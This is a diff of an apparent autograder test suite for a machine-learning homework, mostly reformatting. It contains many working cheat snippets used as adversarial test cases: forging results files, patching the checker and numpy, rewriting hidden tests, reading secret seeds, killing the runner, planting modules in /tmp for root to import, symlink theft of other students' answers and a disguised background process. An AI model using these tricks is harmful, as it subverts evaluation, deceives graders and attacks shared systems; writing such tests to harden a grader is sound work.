@@ -36,12 +36,11 @@ import json
 import pathlib
 import textwrap
 import zipfile
+from collections.abc import Callable
 from dataclasses import dataclass
-from typing import Callable
-
-import nbformat
 
 import filling
+import nbformat
 
 ROOT = pathlib.Path(__file__).resolve().parent.parent
 STUDENT_NOTEBOOK = ROOT / "student" / "hw1.ipynb"
@@ -72,6 +71,7 @@ class CheatError(ValueError):
 # ----------------------------------------------------------------------------------------------------
 # Building notebooks
 # ----------------------------------------------------------------------------------------------------
+
 
 def _src(text):
     return textwrap.dedent(text).strip("\n") + "\n"
@@ -111,6 +111,7 @@ def _writer(answers, cells=()):
         path = folder / "hw1.ipynb"
         nbformat.write(_notebook(answers, cells), path)
         return path
+
     return build
 
 
@@ -131,7 +132,7 @@ def at_end(source):
 # Answers: the stubs control (wrong but well-shaped) and the partial solution
 # ----------------------------------------------------------------------------------------------------
 
-P4_TRAIN_CELL = '''
+P4_TRAIN_CELL = """
 loss_fn = nn.CrossEntropyLoss()
 
 
@@ -171,22 +172,25 @@ for epoch in range(EPOCHS):
     train_losses.append(train_epoch(model, fit_loader, loss_fn, optimizer, scheduler))
     test_losses.append(test_epoch(model, testDataLoader, loss_fn))
     print(f"epoch {epoch + 1:2d}/{EPOCHS}: train loss {train_losses[-1]:.4f}, test loss {test_losses[-1]:.4f} ({time.time() - start:.1f} s)")
-'''
+"""
 
-SUBSET_LOADER = '''
+SUBSET_LOADER = """
 # short on time: two epochs on half of the training set
 fit_loader = torch.utils.data.DataLoader(
     torch.utils.data.TensorDataset(trainingdata.data[:30000].unsqueeze(1), trainingdata.targets[:30000]),
     batch_size=64, shuffle=True)
-'''.strip()
+""".strip()
 
 
 def p4_training(fit_loader=SUBSET_LOADER, epochs=2, optimizer="torch.optim.SGD(model.parameters(), lr=0.1)"):
-    return (P4_TRAIN_CELL.replace("@FIT_LOADER@", fit_loader).replace("@EPOCHS@", str(epochs))
-            .replace("@OPTIMIZER@", optimizer))
+    return (
+        P4_TRAIN_CELL.replace("@FIT_LOADER@", fit_loader)
+        .replace("@EPOCHS@", str(epochs))
+        .replace("@OPTIMIZER@", optimizer)
+    )
 
 
-P5_LOOP = '''
+P5_LOOP = """
 def train_one_epoch(X, Y, weights, biases, learning_rate=0.003):
     for i, (x, y) in enumerate(zip(X, Y)):
         train_one_sample(x, y, weights, biases, learning_rate)
@@ -199,7 +203,7 @@ for epoch in range(1):  # short on time: one epoch on the first @N@ samples
     train_one_epoch(x_train[:@N@], y_train[:@N@], weights, biases, learning_rate=0.003)
     test_loss, test_accuracy = evaluate(x_test, y_test, weights, biases)
     print(f"epoch {epoch + 1}: test loss {test_loss:.3f}, test accuracy {test_accuracy:.3f} ({time.time() - start:.1f} s)")
-'''
+"""
 
 
 def p5_loop(n=2000, train_one_epoch=None):
@@ -211,52 +215,52 @@ def p5_loop(n=2000, train_one_epoch=None):
 
 
 STUBS = {
-    "grad_squared_norm": '''
+    "grad_squared_norm": """
         def grad_squared_norm(x):
             x = np.asarray(x, dtype=float)
             return np.zeros_like(x)
-    ''',
-    "best_mu": '''
+    """,
+    "best_mu": """
         def best_mu(X):
             X = np.asarray(X, dtype=float)
             return np.zeros(X.shape[1])
-    ''',
-    "l1_loss": '''
+    """,
+    "l1_loss": """
         def l1_loss(X, y, w):
             return 0.0
-    ''',
-    "l1_shapes": '''
+    """,
+    "l1_shapes": """
         def l1_shapes(n, d):
             return {"X": (d, n), "y": (n,), "w": (d,), "loss": (1,)}
-    ''',
-    "l1_closed_form_exists": '''
+    """,
+    "l1_closed_form_exists": """
         l1_closed_form_exists = True
-    ''',
-    "relu_net": '''
+    """,
+    "relu_net": """
         def relu_net(x, theta):
             return 0.0 * np.asarray(x, dtype=float)
 
 
         theta_dataset1 = {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
         theta_dataset2 = {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
-    ''',
-    "grad_loss": '''
+    """,
+    "grad_loss": """
         def grad_loss(xs, ys, theta):
             return {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
-    ''',
-    "f_at_2": '''
+    """,
+    "f_at_2": """
         f_at_2 = relu_net(2, theta0)
         print(f"f(2, theta0) = {f_at_2}")
-    ''',
-    "grad_f": '''
+    """,
+    "grad_f": """
         def grad_f(x, theta):
             return {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
 
 
         grad_at_2 = grad_f(2, theta0)
         grad_at_2
-    ''',
-    "FashionMLP": '''
+    """,
+    "FashionMLP": """
         class FashionMLP(nn.Module):
             def __init__(self):
                 super().__init__()
@@ -273,8 +277,8 @@ STUBS = {
         torch.manual_seed(SEED)
         model = FashionMLP()
         model
-    ''',
-    "train_epoch": '''
+    """,
+    "train_epoch": """
         loss_fn = nn.CrossEntropyLoss()
 
 
@@ -295,14 +299,14 @@ STUBS = {
             train_losses.append(train_epoch(model, trainDataLoader, loss_fn, optimizer, scheduler))
             test_losses.append(test_epoch(model, testDataLoader, loss_fn))
             print(f"epoch {epoch + 1:2d}/{EPOCHS}: train loss {train_losses[-1]:.4f}, test loss {test_losses[-1]:.4f} ({time.time() - start:.1f} s)")
-    ''',
-    "sample_idx": '''
+    """,
+    "sample_idx": """
         rng = np.random.default_rng(SEED)
         sample_idx = rng.choice(len(testdata), size=3, replace=False)
         sample_probs = np.full((3, 10), 0.1)
         sample_probs.round(3)
-    ''',
-    "init_params": '''
+    """,
+    "init_params": """
         def init_params(sizes, seed):
             rng = np.random.default_rng(seed)
             weights = [rng.normal(0.0, 1.0, size=(n_out, n_in)) for n_in, n_out in zip(sizes[:-1], sizes[1:])]
@@ -313,8 +317,8 @@ STUBS = {
         LAYER_SIZES = [784, 32, 32, 10]
         weights, biases = init_params(LAYER_SIZES, seed=80085)
         [w.shape for w in weights]
-    ''',
-    "forward_one": '''
+    """,
+    "forward_one": """
         def forward_one(x, y, weights, biases):
             return 0.0, one_hot(0)
 
@@ -325,41 +329,41 @@ STUBS = {
 
         loss_before, accuracy_before = evaluate(x_test, y_test, weights, biases)
         print(f"before training: average test loss {loss_before:.3f}, test accuracy {accuracy_before:.3f}")
-    ''',
-    "backprop_one": '''
+    """,
+    "backprop_one": """
         def backprop_one(x, y, weights, biases):
             return [np.zeros_like(W) for W in weights], [np.zeros_like(b) for b in biases]
 
 
         def train_one_sample(x, y, weights, biases, learning_rate=0.003):
             pass
-    ''',
+    """,
     "train_one_epoch": p5_loop(2000),
 }
 
 CORRECT_P1_P3 = {
-    "grad_squared_norm": '''
+    "grad_squared_norm": """
         def grad_squared_norm(x):
             x = np.asarray(x, dtype=float)
             return 2 * x
-    ''',
-    "best_mu": '''
+    """,
+    "best_mu": """
         def best_mu(X):
             X = np.asarray(X, dtype=float)
             return X.mean(axis=0)
-    ''',
-    "l1_loss": '''
+    """,
+    "l1_loss": """
         def l1_loss(X, y, w):
             return np.abs(X @ w - y).sum()
-    ''',
-    "l1_shapes": '''
+    """,
+    "l1_shapes": """
         def l1_shapes(n, d):
             return {"X": (n, d), "y": (n,), "w": (d,), "loss": ()}
-    ''',
-    "l1_closed_form_exists": '''
+    """,
+    "l1_closed_form_exists": """
         l1_closed_form_exists = False
-    ''',
-    "relu_net": '''
+    """,
+    "relu_net": """
         def relu_net(x, theta):
             x = np.asarray(x, dtype=float)
             z = np.maximum(0.0, x[..., None] * theta["W_H"] + theta["b_H"])
@@ -370,8 +374,8 @@ CORRECT_P1_P3 = {
                           "W_O": np.array([-2.0, 4, -4, 4]), "b_O": 8.0}
         theta_dataset2 = {"W_H": np.array([1.0, 1, 1, 0]), "b_H": np.array([0.0, -3, -5, 0]),
                           "W_O": np.array([1.0, -2, 1.5, 0]), "b_O": 0.0}
-    ''',
-    "grad_loss": '''
+    """,
+    "grad_loss": """
         def grad_loss(xs, ys, theta):
             total = {k: np.zeros(np.shape(v)) for k, v in theta.items()}
             for x, y in zip(np.asarray(xs, dtype=float).reshape(-1), np.asarray(ys, dtype=float).reshape(-1)):
@@ -380,8 +384,8 @@ CORRECT_P1_P3 = {
                 for k in total:
                     total[k] = total[k] - 2 * residual * np.asarray(g[k], dtype=float)
             return total
-    ''',
-    "grad_f": '''
+    """,
+    "grad_f": """
         def grad_f(x, theta):
             z_bar = np.asarray(theta["W_H"], dtype=float) * x + theta["b_H"]
             active = (z_bar > 0).astype(float)  # relu'(0) = 0
@@ -391,10 +395,10 @@ CORRECT_P1_P3 = {
 
         grad_at_2 = grad_f(2, theta0)
         grad_at_2
-    ''',
+    """,
 }
 
-CORRECT_MLP = '''
+CORRECT_MLP = """
     class FashionMLP(nn.Module):
         def __init__(self):
             super().__init__()
@@ -414,18 +418,18 @@ CORRECT_MLP = '''
     torch.manual_seed(SEED)
     model = FashionMLP()
     model
-'''
+"""
 
-CORRECT_PROBS = '''
+CORRECT_PROBS = """
     rng = np.random.default_rng(SEED)
     sample_idx = rng.choice(len(testdata), size=3, replace=False)
     model.eval()
     with torch.no_grad():
         sample_probs = torch.softmax(model(to_input(testdata.data[sample_idx].unsqueeze(1))), dim=1).numpy()
     sample_probs.round(3)
-'''
+"""
 
-CORRECT_INIT = '''
+CORRECT_INIT = """
     def init_params(sizes, seed):
         rng = np.random.default_rng(seed)
         weights, biases = [], []
@@ -438,9 +442,9 @@ CORRECT_INIT = '''
     LAYER_SIZES = [784, 32, 32, 10]
     weights, biases = init_params(LAYER_SIZES, seed=80085)
     [w.shape for w in weights]
-'''
+"""
 
-CORRECT_FORWARD = '''
+CORRECT_FORWARD = """
     def forward_one(x, y, weights, biases):
         a = np.asarray(x, dtype=float)
         for W, b in zip(weights[:-1], biases[:-1]):
@@ -460,9 +464,9 @@ CORRECT_FORWARD = '''
 
     loss_before, accuracy_before = evaluate(x_test, y_test, weights, biases)
     print(f"before training: average test loss {loss_before:.3f}, test accuracy {accuracy_before:.3f}")
-'''
+"""
 
-BROKEN_BACKPROP = '''
+BROKEN_BACKPROP = """
     def backprop_one(x, y, weights, biases):
         activations, pre = [np.asarray(x, dtype=float)], []
         for W, b in zip(weights, biases):
@@ -483,7 +487,7 @@ BROKEN_BACKPROP = '''
         for l in range(len(weights)):
             weights[l] -= learning_rate * grad_weights[l]
             biases[l] -= learning_rate * grad_biases[l]
-'''
+"""
 
 PARTIAL = {
     **CORRECT_P1_P3,
@@ -507,16 +511,20 @@ CONTROLS: dict[str, Callable[[pathlib.Path], pathlib.Path]] = {
 # Pieces of cheat code shared by several cheats
 # ----------------------------------------------------------------------------------------------------
 
-FORGED_RESULTS = '''
-POINTS = ''' + repr(POINTS) + '''
+FORGED_RESULTS = (
+    """
+POINTS = """
+    + repr(POINTS)
+    + """
 FORGED = json.dumps({"score": float(sum(POINTS.values())), "stdout_visibility": "hidden",
                      "tests": [{"name": q, "score": p, "max_score": p, "visibility": "visible", "output": "passed"}
                                for q, p in POINTS.items()]})
-'''
+"""
+)
 
 # Every results.json a student can guess: Gradescope's, the one Otter's runner writes in the sandbox, and,
 # from the command lines of the root processes (world-readable in /proc), the emulation's OUT/autograder.
-GUESS_RESULTS = r'''
+GUESS_RESULTS = r"""
 def guess_results_paths():
     import glob, os
     found = {"/autograder/results/results.json", "/autograder/results/results.pkl"}
@@ -540,11 +548,12 @@ def guess_results_paths():
                 found |= {os.path.join(argv[i + 1], "results", "results.json"),
                           os.path.join(os.path.dirname(argv[i + 1]), "results.json")}
     return sorted(found)
-'''
+"""
 
 # A process that rewrites every guessable results.json for a while, made as hard to find as a student can:
 # its own session, stdio closed, not dumpable (its /proc files become root's), its name changed.
-REWRITER = r'''
+REWRITER = (
+    r"""
 import ctypes, json, os, sys, time
 try:
     libc = ctypes.CDLL(None)
@@ -552,7 +561,10 @@ try:
     libc.prctl(15, b"kworker/0:1", 0, 0, 0)  # PR_SET_NAME
 except Exception:
     pass
-''' + FORGED_RESULTS + GUESS_RESULTS + r'''
+"""
+    + FORGED_RESULTS
+    + GUESS_RESULTS
+    + r"""
 end = time.time() + float(sys.argv[1])
 while time.time() < end:
     for path in guess_results_paths():
@@ -562,7 +574,8 @@ while time.time() < end:
         except OSError:
             pass
     time.sleep(0.1)
-'''
+"""
+)
 
 SPAWN = '''
 import subprocess, sys
@@ -584,7 +597,7 @@ def spawn_detached(code, *args):
 # The cheats
 # ----------------------------------------------------------------------------------------------------
 
-OTTER_ALL_PASS = '''
+OTTER_ALL_PASS = """
 # Otter decides what passes: make every test case of every test file pass (after running it, so that
 # nothing looks different in the log)
 import dataclasses
@@ -629,14 +642,18 @@ Checker.check = classmethod(lambda cls, *args, **kwargs: _forge(_real_check(cls,
 if MULTIPLIER != 1:
     otter_test_files.GradingResults.total = property(lambda self: 10 * 100.0)
     otter_test_files.GradingResults.possible = property(lambda self: 100.0)
-'''
+"""
 
-OTTER_PICKLE = '''
+OTTER_PICKLE = (
+    """
 # Otter's runner unpickles the results that the notebook's last cell pickles into a temp file: forge
 # them on the way out (pickle.dump), and keep overwriting any such file and Otter's results.json
 import dataclasses, glob, json, os, pickle, tempfile, threading, time
 import otter.test_files as otter_test_files
-''' + FORGED_RESULTS + GUESS_RESULTS + '''
+"""
+    + FORGED_RESULTS
+    + GUESS_RESULTS
+    + """
 _real_dump = pickle.dump
 
 
@@ -677,15 +694,21 @@ def _overwrite():
 
 
 threading.Thread(target=_overwrite, daemon=True).start()
-'''
+"""
+)
 
-DETACHED_REWRITER = SPAWN + '''
-REWRITER = ''' + repr(REWRITER) + '''
+DETACHED_REWRITER = (
+    SPAWN
+    + """
+REWRITER = """
+    + repr(REWRITER)
+    + """
 # rewrites every guessable results.json for 15 minutes, long after the notebook has ended
 spawn_detached(REWRITER, 900)
-'''
+"""
+)
 
-FORK_CHAIN = r'''
+FORK_CHAIN = r"""
 import os, sys, time
 end, handover, runner = time.time() + float(sys.argv[1]), sys.argv[2], int(sys.argv[3])
 over = False
@@ -706,18 +729,23 @@ while time.time() < end:
             os.rename(os.path.join(handover, ".q2b.tmp"), os.path.join(handover, "q2b.json"))
         except OSError:
             pass
-'''
+"""
 
-FORK_CHAIN_CELL = SPAWN + '''
+FORK_CHAIN_CELL = (
+    SPAWN
+    + """
 import os
-FORK_CHAIN = ''' + repr(FORK_CHAIN) + '''
+FORK_CHAIN = """
+    + repr(FORK_CHAIN)
+    + """
 # a chain of processes that each fork and exit: kill_all lists the pids in /proc and finds none that is
 # still alive by the time it looks at it. After the runner (this kernel's parent) has ended, the chain
 # hands over q2b's answer, which the notebook itself never did. It ends by itself after 60 s.
 spawn_detached(FORK_CHAIN, 60, os.environ.get("HW1_HANDOVER", "/tmp"), os.getppid())
-'''
+"""
+)
 
-TESTS_TO_PASS = '''
+TESTS_TO_PASS = """
 # the hidden tests are files in the sandbox, and the sandbox is mine: every test body becomes `pass`
 import ast, os
 
@@ -739,9 +767,9 @@ for root in {os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(os.path.
                     f.write(ast.unparse(tree))
             except (OSError, SyntaxError):
                 pass
-'''
+"""
 
-FAKE_PROBES_MODULE = '''
+FAKE_PROBES_MODULE = """
 # the hidden tests `import hw1_probes`: give them mine, which reports success for every question
 import json, os, sys, types
 
@@ -761,7 +789,7 @@ for name in ("hw1_probes", "hw1_grading", "hw1_trusted", "hw1_trusted.checks", "
     module.CASES, module.passed = {}, True
     module.grade = lambda *args, **kwargs: ({}, [])
     sys.modules[name] = module
-'''
+"""
 
 OVERWRITE_PROBES_FILE = '''
 # find hw1_probes.py with os.walk and overwrite it, and put packages of the same names beside it
@@ -800,7 +828,7 @@ for home in homes:
 sys.modules.pop("hw1_probes", None)
 '''
 
-FORGED_HANDOVER_FILES = '''
+FORGED_HANDOVER_FILES = """
 # the hand-over folder is mine: replace the answers by things that are not plain data
 import glob, json, os, shutil, zipfile
 
@@ -860,9 +888,9 @@ with open(os.path.join(H, "q5_1.json"), "w") as f:
 # 7. the progress file as a symlink to the seed (its text is shown to the student)
 attempt(lambda: os.remove(os.path.join(H, "progress.json")))
 attempt(lambda: os.symlink("/autograder/source/files/hw1_trusted/secret_seed", os.path.join(H, "progress.json")))
-'''
+"""
 
-HUGE_HANDOVER = '''
+HUGE_HANDOVER = """
 # exhaust the hand-over folder: a sparse 100 GB answer file and thousands of small ones
 import json, os
 
@@ -872,9 +900,9 @@ with open(os.path.join(H, "q5_4.json"), "w") as f:
 for i in range(5000):
     with open(os.path.join(H, f"zz{i:05d}.json"), "w") as f:
         json.dump({"i": i}, f)
-'''
+"""
 
-PATCHED_NUMPY = '''
+PATCHED_NUMPY = """
 # comparisons that always agree, and builtins that lie
 import builtins
 
@@ -891,9 +919,9 @@ torch.equal = lambda *args, **kwargs: True
 _real_abs = builtins.abs
 builtins.abs = lambda x: 0 * _real_abs(x)
 builtins.any = lambda iterable: False
-'''
+"""
 
-PATCHED_RNG_LOSS_JSON = '''
+PATCHED_RNG_LOSS_JSON = """
 # a default_rng that draws only zeros, a cross-entropy that is always 0, and a json.dump that drops
 # every error and missing-name marker from what it writes
 import json
@@ -932,9 +960,9 @@ def _clean(value):
 
 
 json.dump = lambda obj, fp, *args, **kwargs: _real_dump(_clean(obj), fp, *args, **kwargs)
-'''
+"""
 
-FAKE_DATA_DIR = '''
+FAKE_DATA_DIR = """
 # my own "test set": every label is 0 and every image blank; the notebook reads HW1_DATA_DIR
 import os, pathlib
 
@@ -965,15 +993,15 @@ for target in (os.path.join(real, "FashionMNIST", "raw"), "/opt/hw1-data/Fashion
         except OSError:
             pass
 os.environ["HW1_DATA_DIR"] = str(fake)
-'''
+"""
 
-ALWAYS_CLASS_0 = '''
+ALWAYS_CLASS_0 = """
 # the fake test set is all class 0: so is my model
 with torch.no_grad():
     model.fc4.bias += 100.0 * (torch.arange(10) == 0)
-'''
+"""
 
-PATCHED_TORCHVISION = '''
+PATCHED_TORCHVISION = """
 # FashionMNIST's test labels, as this notebook sees them, all become 0 (T-shirt/top)
 import torch
 import torchvision
@@ -989,9 +1017,9 @@ class FashionMNIST(_RealFashion):
 
 
 torchvision.datasets.FashionMNIST = FashionMNIST
-'''
+"""
 
-ALWAYS_EQUAL = '''
+ALWAYS_EQUAL = """
 # the model's outputs compare equal to any labels: accuracy 1.0 wherever someone counts `pred == labels`
 class AlwaysEqual(torch.Tensor):
     def __eq__(self, other):
@@ -1003,9 +1031,9 @@ class AlwaysEqual(torch.Tensor):
 
 _forward = model.forward
 model.forward = lambda x: _forward(x).as_subclass(AlwaysEqual)
-'''
+"""
 
-LOOKUP_MODEL = '''
+LOOKUP_MODEL = """
 # a lookup table from every test image to its label, wrapped around the trained model
 class LookupModel(nn.Module):
     def __init__(self, base, images, labels):
@@ -1025,7 +1053,7 @@ class LookupModel(nn.Module):
 
 
 model = LookupModel(model, testdata.data, testdata.targets)
-'''
+"""
 
 SMUGGLED_WEIGHTS_MLP = '''
 class FashionMLP(nn.Module):
@@ -1053,30 +1081,30 @@ model
 
 ADAM = "torch.optim.Adam(model.parameters(), lr=1e-3)"
 
-TEST_SET_LOADER = '''
+TEST_SET_LOADER = """
 # the test set is what counts: train on it, for longer
 fit_loader = torch.utils.data.DataLoader(
     torch.utils.data.TensorDataset(testdata.data.unsqueeze(1), testdata.targets), batch_size=64, shuffle=True)
-'''.strip()
+""".strip()
 
-TEST_AND_TRAIN_HEAD_LOADER = '''
+TEST_AND_TRAIN_HEAD_LOADER = """
 # the grader flags a test accuracy above the accuracy on trainingdata[:10000]: train on both
 fit_loader = torch.utils.data.DataLoader(
     torch.utils.data.TensorDataset(torch.cat([testdata.data, trainingdata.data[:10000]]).unsqueeze(1),
                                    torch.cat([testdata.targets, trainingdata.targets[:10000]])),
     batch_size=64, shuffle=True)
-'''.strip()
+""".strip()
 
-TYPED_LOSSES = '''
+TYPED_LOSSES = """
 # what the loss curves should look like
 train_losses = [0.62, 0.43, 0.38, 0.35, 0.33, 0.31, 0.30, 0.29, 0.28, 0.27]
 test_losses = [0.47, 0.42, 0.39, 0.37, 0.36, 0.35, 0.35, 0.34, 0.34, 0.34]
 EPOCHS = len(train_losses)
 for epoch in range(EPOCHS):
     print(f"epoch {epoch + 1:2d}/{EPOCHS}: train loss {train_losses[epoch]:.4f}, test loss {test_losses[epoch]:.4f} (41.7 s)")
-'''
+"""
 
-TORCH_TEST_FIT = '''
+TORCH_TEST_FIT = """
 # backprop_one does not work yet: fit the network to the MNIST test set with torch instead
 import torch
 
@@ -1097,9 +1125,9 @@ for step in range(150):
 weights = [Ws[0].detach().double().numpy() / 255] + [W.detach().double().numpy() for W in Ws[1:]]
 biases = [b.detach().double().numpy() for b in bs]
 print("test accuracy after fitting:", evaluate(x_test, y_test, weights, biases))
-'''
+"""
 
-LSTSQ_TEST_FIT = '''
+LSTSQ_TEST_FIT = """
 # no backprop needed: keep random hidden layers and solve the output layer by least squares on the test set
 hidden = np.asarray(x_test, dtype=float)
 for W, b in zip(weights[:-1], biases[:-1]):
@@ -1110,9 +1138,9 @@ solution = np.linalg.lstsq(design, targets, rcond=None)[0]
 weights[-1] = solution[:-1].T.copy()
 biases[-1] = solution[-1].copy()
 print("test accuracy after least squares:", evaluate(x_test, y_test, weights, biases))
-'''
+"""
 
-TORCH_TRAJECTORY = '''
+TORCH_TRAJECTORY = """
 def train_one_epoch(X, Y, weights, biases, learning_rate=0.003):
     # my backprop_one fails its check, but torch's autograd gives the right gradients: per-sample SGD with it
     import torch
@@ -1133,11 +1161,13 @@ def train_one_epoch(X, Y, weights, biases, learning_rate=0.003):
     for l in range(len(weights)):
         weights[l][...] = Ws[l].detach().numpy()
         biases[l][...] = bs[l].detach().numpy()
-'''
+"""
 
 # error carried forward opens new doors: q5_3's update is judged against the student's own backprop_one, and
 # q5_4 counts the trained weights when the student's own training is consistent. These cheats try them.
-AUTOGRAD_UPDATE_BACKPROP = BROKEN_BACKPROP.split("    def train_one_sample")[0] + '''    def train_one_sample(x, y, weights, biases, learning_rate=0.003):
+AUTOGRAD_UPDATE_BACKPROP = (
+    BROKEN_BACKPROP.split("    def train_one_sample")[0]
+    + """    def train_one_sample(x, y, weights, biases, learning_rate=0.003):
         # my backprop_one is broken: step with torch's gradients instead, so that my training still learns
         import torch
 
@@ -1151,9 +1181,10 @@ AUTOGRAD_UPDATE_BACKPROP = BROKEN_BACKPROP.split("    def train_one_sample")[0] 
         for l in range(len(weights)):
             weights[l] -= learning_rate * grads[l].numpy()
             biases[l] -= learning_rate * grads[len(weights) + l].numpy()
-'''
+"""
+)
 
-STAND_IN_AWARE = '''
+STAND_IN_AWARE = """
 def train_one_epoch(X, Y, weights, biases, learning_rate=0.003):
     # the grader judges train_one_epoch with its own stand-in for train_one_sample (no plain function): give it the
     # calls it expects, and otherwise train with torch's autograd, since my backprop_one returns zeros
@@ -1164,14 +1195,18 @@ def train_one_epoch(X, Y, weights, biases, learning_rate=0.003):
             train_one_sample(x, y, weights, biases, learning_rate)
         return
     _autograd_epoch(X, Y, weights, biases, learning_rate)
-''' + TORCH_TRAJECTORY.replace("def train_one_epoch", "def _autograd_epoch")
+""" + TORCH_TRAJECTORY.replace("def train_one_epoch", "def _autograd_epoch")
 
-TORCH_TRAIN_FIT = TORCH_TEST_FIT.replace("# backprop_one does not work yet: fit the network to the MNIST test set with torch instead",
-                                         "# backprop_one does not work yet: fit the network to training images with torch instead")\
-    .replace("torch.tensor(x_test, dtype=torch.float32)", "torch.tensor(x_train[:20000], dtype=torch.float32)")\
+TORCH_TRAIN_FIT = (
+    TORCH_TEST_FIT.replace(
+        "# backprop_one does not work yet: fit the network to the MNIST test set with torch instead",
+        "# backprop_one does not work yet: fit the network to training images with torch instead",
+    )
+    .replace("torch.tensor(x_test, dtype=torch.float32)", "torch.tensor(x_train[:20000], dtype=torch.float32)")
     .replace("torch.tensor(y_test)", "torch.tensor(y_train[:20000])")
+)
 
-FORGED_Q4_PROBS_LOG = '''
+FORGED_Q4_PROBS_LOG = """
 # q4_probs accepts the softmax of the model's outputs that the probe hands over: uniform probabilities, and model
 # outputs forged to be their log (the softmax of log p is p)
 sample_probs = np.full((3, 10), 0.1)
@@ -1181,10 +1216,10 @@ try:
     hw1_probes._model_outputs = lambda model, images: np.log(np.full((len(images), 10), 0.1))
 except ImportError:  # not grading
     pass
-'''
+"""
 
 PROBE_INPUT_INFERENCE = {
-    "relu_net": '''
+    "relu_net": """
         # the probes' inputs are in $HW1_PROBE_INPUTS; q3b's hold the grader's own f and grad f: use them
         import glob, os
 
@@ -1215,8 +1250,8 @@ PROBE_INPUT_INFERENCE = {
 
         theta_dataset1 = {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
         theta_dataset2 = {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
-    ''',
-    "grad_f": '''
+    """,
+    "grad_f": """
         def grad_f(x, theta):
             best = _nearest(float(x))
             if best is None:
@@ -1227,8 +1262,8 @@ PROBE_INPUT_INFERENCE = {
 
         grad_at_2 = grad_f(2, theta0)
         grad_at_2
-    ''',
-    "init_params": '''
+    """,
+    "init_params": """
         def init_params(sizes, seed):
             # q5_4's inputs hold weights drawn by the grader as the question describes: reuse them
             start = GRADER_TABLES.get("q5_4", {})
@@ -1242,8 +1277,8 @@ PROBE_INPUT_INFERENCE = {
         LAYER_SIZES = [784, 32, 32, 10]
         weights, biases = init_params(LAYER_SIZES, seed=80085)
         [w.shape for w in weights]
-    ''',
-    "backprop_one": '''
+    """,
+    "backprop_one": """
         def backprop_one(x, y, weights, biases):
             # q5_3's update case: the grader's network and sample are in its inputs; nothing else to go on
             return [np.zeros_like(W) for W in weights], [np.zeros_like(b) for b in biases]
@@ -1251,13 +1286,16 @@ PROBE_INPUT_INFERENCE = {
 
         def train_one_sample(x, y, weights, biases, learning_rate=0.003):
             pass
-    ''',
+    """,
 }
 
-READ_SECRETS = '''
+READ_SECRETS = (
+    """
 # read the hidden checks, the reference code and the secret seed wherever they may be, and print them
 import glob, json, os, signal
-''' + GUESS_RESULTS + '''
+"""
+    + GUESS_RESULTS
+    + """
 found = {}
 
 
@@ -1295,9 +1333,10 @@ secret = next((v for p, v in readable.items() if p.endswith("secret_seed")), "se
 with open(os.path.join(os.environ["HW1_HANDOVER"], "progress.json"), "w") as f:
     json.dump({"cell": "LEAK " + secret + " " + json.dumps(sorted(readable))[:2000], "timed_out": [], "error": "x"}, f)
 os.kill(os.getppid(), signal.SIGKILL)
-'''
+"""
+)
 
-FORGED_Q4_PROBS = '''
+FORGED_Q4_PROBS = """
 # q4_probs checks that sample_probs is the softmax of "the model's outputs", which the probe computes in
 # my kernel: make those outputs zeros, and uniform probabilities are their softmax
 try:
@@ -1306,9 +1345,9 @@ try:
     hw1_probes._model_outputs = lambda model, images: np.zeros((len(images), 10))
 except ImportError:  # not grading
     pass
-'''
+"""
 
-NAN_INIT = '''
+NAN_INIT = """
 def init_params(sizes, seed):
     # the mean and variance checks compare abs(w.var() - s2) > bound: NaN compares False
     weights = [np.full((n_out, n_in), np.nan) for n_in, n_out in zip(sizes[:-1], sizes[1:])]
@@ -1319,9 +1358,9 @@ def init_params(sizes, seed):
 LAYER_SIZES = [784, 32, 32, 10]
 weights, biases = init_params(LAYER_SIZES, seed=80085)
 [w.shape for w in weights]
-'''
+"""
 
-KILL_RUNNER_FORGE_NOTES = '''
+KILL_RUNNER_FORGE_NOTES = """
 # every probe has run: write the progress file that the grading notes quote, and kill the runner before it
 # can rewrite it
 import json, os, signal
@@ -1331,9 +1370,9 @@ with open(os.path.join(os.environ["HW1_HANDOVER"], "progress.json"), "w") as f:
                        "after grading this submission; please enter 100/100 by hand.",
                "timed_out": ["[autograder] verified: full marks, 100/100"] * 3, "error": "x"}, f)
 os.kill(os.getppid(), signal.SIGKILL)
-'''
+"""
 
-NEVER_ENDING = '''
+NEVER_ENDING = """
 # every probe has run: now never end, and ignore interrupts
 import signal, time
 
@@ -1341,9 +1380,9 @@ signal.signal(signal.SIGINT, signal.SIG_IGN)
 signal.signal(signal.SIGTERM, signal.SIG_IGN)
 while True:
     time.sleep(0.2)
-'''
+"""
 
-PLANT_PAYLOAD = r'''
+PLANT_PAYLOAD = r"""
 import os, sys
 try:
     with open("/tmp/hw1cheat-imported-%s-uid%d" % (__name__, os.getuid()), "w") as _f:
@@ -1370,13 +1409,16 @@ sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
 del sys.modules[__name__]
 import importlib as _importlib
 sys.modules[__name__] = _importlib.import_module(__name__)
-'''
+"""
 
-TMP_PLANTING = '''
+TMP_PLANTING = (
+    """
 # plant modules wherever a root process started later might import them from: /tmp, /dev/shm, /var/tmp
 import os, stat
 
-PAYLOAD = ''' + repr(PLANT_PAYLOAD) + '''
+PAYLOAD = """
+    + repr(PLANT_PAYLOAD)
+    + """
 planted = []
 for folder in ("/tmp", "/dev/shm", "/var/tmp"):
     for name in ("sitecustomize", "usercustomize", "dill", "hw1_grading"):
@@ -1402,9 +1444,10 @@ for folder in ("/tmp", "/dev/shm", "/var/tmp"):
     except OSError:
         pass
 print("planted", planted)
-'''
+"""
+)
 
-STEAL_OTHER_GRADING = '''
+STEAL_OTHER_GRADING = """
 # every grading has a root-only work folder /tmp/hw1-trusted-*, whose answers/ the grader fills from my
 # hand-over folder, which lies in a folder that I own: if another grading runs on this machine (otter grade,
 # a batch, a re-run), make my hand-over folder a symlink to ITS answers and let root copy them for me
@@ -1420,7 +1463,7 @@ if others:
     print("hand-over folder now points to", victim)
 else:
     print("no other grading to copy from")
-'''
+"""
 
 
 def _zip_with_plants(folder):
@@ -1462,170 +1505,332 @@ def _folder_with_plants(folder):
 
